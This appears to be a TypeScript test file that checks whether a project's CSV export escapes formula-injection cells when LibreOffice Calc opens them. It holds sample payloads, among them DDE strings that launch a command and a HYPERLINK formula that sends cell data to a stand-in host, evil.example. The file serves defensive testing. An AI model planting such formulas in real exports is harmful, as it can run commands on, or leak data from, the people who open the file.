import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { stringify } from 'csv-stringify/sync';
import { fc } from '@fast-check/vitest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dataset } from '../../src/dataset/index.js';
import { csvRowOf } from '../../src/export/csv.js';
import { toCsv, unescapeFormula } from '../../src/export/index.js';
import { xlsxRows, type SheetCell } from './xlsx.js';

/**
 * LibreOffice Calc opens CSV files that saidby wrote, with the import options a user gets, and saves them as
 * .xlsx, whose cells say whether they are formulas (`<f>`). Missing LibreOffice fails this file: it does
 * not skip (CI installs libreoffice-calc-nogui in .ci/run, as it installs chromium for the browser tests).
 */
const soffice = '/usr/bin/soffice';

/**
 * CSV import options (FilterOptions tokens: separators, quote, charset 76 = UTF-8, first line, column
 * formats, language, quoted field as text, detect special numbers, two export-only tokens, trim spaces,
 * an export-only sheet token, evaluate formulas). `undefined`: no options, as `soffice --convert-to` and
 * scripts open a CSV (comma, evaluate formulas, LibreOffice's own charset rather than the BOM's). The
 * dialog's defaults are those LibreOffice 7.4 ships in Office.Calc/Dialogs/CSVImport (Separators ",;" TAB,
 * EvaluateFormulas false), with UTF-8 as the BOM says.
 */
const imports = {
  noOptions: undefined,
  dialogDefaults: '9/44/59,34,76,1,,0,false,false,true,false,false,,false',
  dialogEvaluateFormulas: '9/44/59,34,76,1,,0,false,false,true,false,false,,true',
  everySeparatorTrimmedEvaluated: '9/44/59/32,34,76,1,,0,false,false,true,false,true,,true',
} as const;
type ImportName = keyof typeof imports;
const utf8Imports = ['dialogDefaults', 'dialogEvaluateFormulas', 'everySeparatorTrimmedEvaluated'] as const;
const evaluatingImports = ['noOptions', 'dialogEvaluateFormulas', 'everySeparatorTrimmedEvaluated'] as const;

const triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const leads = [
  '', ' ', '   ', "'", "''", '\u0000', '\u0000\u0000', '\u0001', '\u0008', '\u001B', '\u007F', '\u0085', '\u009B', '\u00A0', '\u00AD', '\u061C',
  '\u180E', '\u2007', '\u200B', '\u200C', '\u200D', '\u200E', '\u200F', '\u2028', '\u202E', '\u2060', '\u2066', '\u3000', '\uFE0F', '\uFEFF',
  '\u{E0001}', '\t', '\n', '\r\n', " \u0000'\u200B",
];
const payloads = ['1+1', 'SUM(1;2)', "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?"&A1;"click")', '1', ''];
const others = [
  '@SUM(1)', '@SUM(A1:A2)', '-1', '+1', '-2,000 fighters', '+7 (495) 123-45-67', '=', '==1', "'=1+1", "''=1+1", 'DDE("cmd";"/C calc";"A0")',
  '=DDE("cmd";"/C calc";"A0")', "=cmd|' /C calc'!A0", '＝1+1', 'x;=1+1', 'x\t=1+1', 'x =1+1', 'x,=1+1', 'x;+1;-1;@SUM(1)', 'a;b\tc d,e',
  'a\n\nb', 'a\r\n\r\nb', '"=1+1"', '"quoted" =1', 'Lavrov: "=ceasefire"', '2,000 fighters', 'Erdoğan', '😀=1', '',
];
const separators = ['', ',', ';', '\t', ' ', ', ', '; ', '\t\t'];

/** Generated cells: any mix of invisible characters, apostrophes and separators before and inside a payload. */
const hostile = fc
  .tuple(
    fc.array(fc.constantFrom(...leads, ...separators), { maxLength: 3 }),
    fc.constantFrom(...triggers, ''),
    fc.constantFrom(...payloads),
    fc.constantFrom(...separators),
    fc.constantFrom(...triggers, ''),
    fc.string({ maxLength: 5, unit: 'grapheme' }),
  )
  .map((parts) => parts.flat().join(''));

const seed = Number(process.env.SAIDBY_LIBREOFFICE_SEED ?? Date.now() % 2 ** 31);
const texts = [
  ...leads.flatMap((lead) => triggers.map((trigger) => `${lead}${trigger}1+1`)),
  ...['', '\u0000'].flatMap((lead) => triggers.flatMap((trigger) => payloads.map((payload) => lead + trigger + payload))),
  ...others,
  ...fc.sample(hostile, { numRuns: 200, seed }),
];
const numbers = [-1, 1, 0, -2000, 0.5, -0.25, 1234567];
const columns = ['id', 'text', 'span.start'];
const records = texts.map((text, index) => ({ ...dataset.quotes[0]!, id: `r${index}`, text, span: { start: numbers[index % numbers.length]!, end: 1 } }));

/**
 * What a LibreOffice cell can hold of a text: every line break becomes LF, then NUL is dropped (so "\n\u0000\r"
 * stays two breaks, as Calc 7.4 keeps it).
 */
const asLibreOfficeKeeps = (text: string) => text.replace(/\r\n|\n\r|\r/g, '\n').replaceAll('\u0000', '');

let directory: string;
let version: string;
type CsvFile = 'escaped' | 'unescaped' | 'rfc4180-only';
const sheets = {} as Record<ImportName, Partial<Record<CsvFile, SheetCell[][]>>>;
const converted: Record<ImportName, CsvFile[]> = {
  noOptions: ['escaped', 'unescaped'],
  dialogDefaults: ['escaped', 'rfc4180-only'],
  dialogEvaluateFormulas: ['escaped', 'unescaped', 'rfc4180-only'],
  everySeparatorTrimmedEvaluated: ['escaped', 'unescaped', 'rfc4180-only'],
};
const sheet = (name: ImportName, file: CsvFile) => sheets[name][file]!;

async function convert(name: ImportName): Promise<void> {
  const filter = imports[name];
  const out = join(directory, name);
  await promisify(execFile)(
    soffice,
    [`-env:UserInstallation=file://${join(directory, `profile-${name}`)}`, '--headless', '--norestore', ...(filter ? [`--infilter=CSV:${filter}`] : []), '--convert-to', 'xlsx', '--outdir', out, ...converted[name].map((file) => join(directory, `${file}.csv`))],
    { timeout: 90_000 },
  );
  sheets[name] = Object.fromEntries(converted[name].map((file) => [file, xlsxRows(readFileSync(join(out, `${file}.xlsx`)))]));
}

beforeAll(async () => {
  if (!existsSync(soffice)) {
    throw new Error(`LibreOffice is not installed (${soffice} is missing): run \`apt-get install -y libreoffice-calc-nogui\`; .ci/run installs it, and this test does not skip`);
  }
  version = (await promisify(execFile)(soffice, ['--version'])).stdout.trim();
  directory = mkdtempSync(join(tmpdir(), 'saidby-libreoffice-'));
  const rowOf = csvRowOf('quotes', { columns });
  const files: Record<CsvFile, string> = {
    escaped: toCsv('quotes', records, { columns }),
    unescaped: toCsv('quotes', records, { columns, escapeFormulas: false }),
    'rfc4180-only': stringify([columns, ...records.map(rowOf)], { bom: true, record_delimiter: '\r\n', quote_record_delimiter: true, escape_formulas: false }),
  };
  for (const [file, text] of Object.entries(files)) writeFileSync(join(directory, `${file}.csv`), text);
  await Promise.all((Object.keys(imports) as ImportName[]).map(convert));
});

afterAll(() => {
  if (directory) rmSync(directory, { recursive: true, force: true });
});

function formulaCells(rows: SheetCell[][]): string[] {
  return rows.flatMap((row, line) => row.flatMap((cell, column) => (cell.formula === undefined ? [] : [`row ${line + 1} column ${column + 1}: ${JSON.stringify(texts[line - 1])} ran as =${cell.formula}`])));
}

describe(`${texts.length} hostile cells written by saidby, opened in LibreOffice Calc (seed ${seed})`, () => {
  it('is opened by LibreOffice 7.4 or later with one row per record', () => {
    expect(version).toMatch(/^LibreOffice (7\.(?:[4-9])|(?:[89]|\d\d)\.)/);
    for (const name of Object.keys(imports) as ImportName[]) expect(sheet(name, 'escaped'), name).toHaveLength(records.length + 1);
  });

  it.each(Object.keys(imports) as ImportName[])('has no formula cell with import options %s', (name) => {
    expect(formulaCells(sheet(name, 'escaped'))).toEqual([]);
  });

  it.each(utf8Imports)('gives every cell back as written with import options %s (after unescapeFormula)', (name) => {
    const rows = sheet(name, 'escaped');
    expect(rows[0]!.map((cell) => cell.text)).toEqual(columns);
    records.forEach((record, index) => {
      const [id, text, start, ...rest] = rows[index + 1]!;
      const where = `${name}, row ${index + 2}, written ${JSON.stringify(record.text)}`;
      expect(rest.every((cell) => cell.type === 'empty'), `${where}: the row was split into ${rows[index + 1]!.length} cells`).toBe(true);
      expect(id!.text, where).toBe(record.id);
      expect(text?.type ?? 'empty', where).toBe(asLibreOfficeKeeps(record.text) === '' ? 'empty' : 'string');
      expect(unescapeFormula(text?.text ?? ''), where).toBe(asLibreOfficeKeeps(record.text));
      expect(start!.type, where).toBe('number');
      expect(Number(start!.text), where).toBe(record.span.start);
    });
  });

  it.each(evaluatingImports)('control: the same cells with escapeFormulas: false run as formulas with import options %s', (name) => {
    const ran = new Set(sheet(name, 'unescaped').flatMap((row, line) => (row[1]?.formula === undefined ? [] : [texts[line - 1]!])));
    for (const text of ['=1+1', "=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"A0")', '\u0000=SUM(1;2)', '\u0000\u0000=1+1', '=HYPERLINK("https://evil.example/?"&A1;"click")']) {
      expect(ran.has(text), `${name}: ${JSON.stringify(text)}`).toBe(true);
    }
    for (const text of ran) expect(asLibreOfficeKeeps(text).startsWith('='), `${name}: ${JSON.stringify(text)} ran`).toBe(true);
  });

  it('control: escaping with only RFC 4180 quoting lets the import dialog split a cell at ";" or TAB and run the piece', () => {
    expect(formulaCells(sheet('dialogDefaults', 'rfc4180-only'))).toEqual([]);
    const split = (name: ImportName, text: string) => formulaCells(sheet(name, 'rfc4180-only')).some((line) => line.includes(`: ${JSON.stringify(text)} ran`));
    for (const text of ['x;=1+1', 'x\t=1+1', '\t=1+1']) expect(split('dialogEvaluateFormulas', text), text).toBe(true);
    expect(split('everySeparatorTrimmedEvaluated', 'x =1+1')).toBe(true);
  });
});
